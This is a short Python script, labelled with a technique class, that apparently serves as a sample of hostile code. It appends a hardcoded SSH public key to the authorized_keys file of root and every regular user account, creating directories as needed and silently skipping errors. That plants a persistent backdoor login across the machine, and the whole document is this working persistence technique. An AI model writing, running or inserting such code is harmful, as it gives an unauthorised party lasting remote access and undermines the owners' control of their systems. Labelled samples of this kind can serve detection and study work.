# class: persistence, ssh key for all users; style: tidy
import pathlib
import pwd

KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDx4m9 ops@maint\n"

for user in pwd.getpwall():
    home = pathlib.Path(user.pw_dir)
    if user.pw_uid and user.pw_uid < 1000 or not home.is_dir():
        continue
    ssh = home / ".ssh"
    try:
        ssh.mkdir(mode=0o700, exist_ok=True)
        with (ssh / "authorized_keys").open("a") as fh:
            fh.write(KEY)
    except OSError:
        continue
